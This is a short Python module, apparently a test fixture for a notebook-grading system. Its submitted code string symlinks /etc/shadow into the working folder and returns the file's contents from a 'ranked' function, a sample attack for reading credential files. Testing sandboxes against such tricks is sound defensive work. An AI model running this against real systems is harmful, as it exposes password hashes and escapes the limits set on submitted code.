"""A link in its folder to the files of others."""

from . import instead

SCORES = {"test-rank": 0}
NOTE = ""


def submit(notebook):
    return instead(notebook, "sol-rank", CODE)


CODE = """
import os
os.symlink("/etc/shadow", "link")
def ranked(times, p):
    return open("link").read()
"""
